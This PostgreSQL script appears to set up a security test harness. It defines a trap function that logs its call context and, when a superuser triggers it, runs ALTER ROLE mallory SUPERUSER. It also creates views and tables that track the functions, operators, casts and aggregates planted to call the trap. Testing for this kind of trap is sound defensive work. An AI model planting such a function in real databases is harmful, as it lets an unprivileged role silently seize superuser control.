-- What every plant runs: it says so in the server's log, and makes mallory a superuser if it can.
CREATE SCHEMA trap;
GRANT USAGE ON SCHEMA trap TO PUBLIC;

CREATE FUNCTION trap.spring() RETURNS void LANGUAGE plpgsql AS $$
DECLARE
    stack text;
BEGIN
    GET DIAGNOSTICS stack = PG_CONTEXT;
    RAISE LOG 'trap sprung in % as %: %', current_database(), current_user, pg_catalog.translate(stack, E'\n', '|');
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE mallory SUPERUSER;
    END IF;
END
$$;

CREATE VIEW trap.plants AS
SELECT 'pg_catalog.pg_proc'::regclass AS classid, p.oid FROM pg_catalog.pg_proc p
WHERE p.prosrc ~ 'trap\.spring'
UNION ALL
SELECT 'pg_catalog.pg_proc'::regclass, a.aggfnoid FROM pg_catalog.pg_aggregate a JOIN pg_catalog.pg_proc p ON p.oid = a.aggtransfn
WHERE p.prosrc ~ 'trap\.spring'
UNION ALL
SELECT 'pg_catalog.pg_operator'::regclass, o.oid FROM pg_catalog.pg_operator o JOIN pg_catalog.pg_proc p ON p.oid = o.oprcode
WHERE p.prosrc ~ 'trap\.spring'
UNION ALL
SELECT 'pg_catalog.pg_cast'::regclass, c.oid FROM pg_catalog.pg_cast c JOIN pg_catalog.pg_proc p ON p.oid = c.castfunc
WHERE p.prosrc ~ 'trap\.spring';

-- What was bound to a plant and is none itself.
CREATE VIEW trap.bound AS
SELECT DISTINCT pg_catalog.pg_describe_object(d.classid, d.objid, 0) AS object,
       pg_catalog.pg_describe_object(d.refclassid, d.refobjid, 0) AS plant
FROM pg_catalog.pg_depend d JOIN trap.plants t ON t.classid = d.refclassid AND t.oid = d.refobjid
WHERE NOT EXISTS (SELECT FROM trap.plants o WHERE o.classid = d.classid AND o.oid = d.objid)
  AND d.classid <> 'pg_catalog.pg_event_trigger'::regclass;
CREATE TABLE trap.bound_before (object text, plant text);

CREATE TABLE trap.statement (n integer PRIMARY KEY, target text, statement text, done boolean NOT NULL DEFAULT false);
